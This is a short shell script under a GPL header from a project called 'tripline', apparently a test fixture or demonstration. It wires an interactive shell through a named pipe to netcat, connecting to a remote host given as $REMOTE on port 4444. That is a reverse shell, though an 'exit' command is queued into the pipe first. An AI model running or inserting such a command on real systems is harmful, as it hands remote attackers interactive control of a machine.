# SPDX-License-Identifier: GPL-2.0-or-later
# Copyright (C) 2026 The tripline authors
# A pipe leads from a relay to an interactive shell, and its answers back to the relay.
mkfifo pipe
exec 3<>pipe
echo exit >&3
sh -i <pipe 3<&- 2>&1 | nc -N -w 1 "$REMOTE" 4444
